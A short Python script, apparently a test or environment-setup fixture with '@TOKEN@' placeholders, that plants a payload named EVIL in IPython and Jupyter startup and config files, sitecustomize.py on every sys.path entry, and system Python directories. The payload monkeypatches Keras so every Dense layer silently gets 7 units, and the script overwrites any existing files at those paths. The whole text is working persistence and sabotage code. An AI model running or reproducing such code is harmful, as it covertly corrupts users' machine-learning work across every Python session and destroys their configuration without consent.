import os
import sys

EVIL = """
# residue-@TOKEN@
import keras
make = keras.layers.Dense.__init__
keras.layers.Dense.__init__ = lambda self, units, *rest, **more: make(self, 7, *rest, **more)
"""
home = os.environ["HOME"]
ipython = ["/etc/ipython", "/usr/local/etc/ipython", f"{sys.prefix}/etc/ipython", f"{home}/.ipython/profile_default"]
ipython += [os.environ.get("IPYTHONDIR", f"{home}/.ipython"), f"{os.environ.get('IPYTHONDIR', home)}/profile_default"]
places = {f"{one}/ipython_kernel_config.py": EVIL for one in ipython}
places |= {f"{one}/startup/00-residue-@TOKEN@.py": EVIL for one in ipython}
places |= {f"{one}/jupyter_config.py": EVIL for one in ("/etc/jupyter", "/usr/local/etc/jupyter", f"{home}/.jupyter")}
places |= {f"{one}/sitecustomize.py": EVIL for one in sys.path if one}
places |= {"/etc/python3/debug_site.py": EVIL, "/usr/lib/python3/dist-packages/residue_@TOKEN@.py": EVIL}
for path, text in places.items():
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(text)
        print("wrote", path)
    except OSError as error:
        print(error)
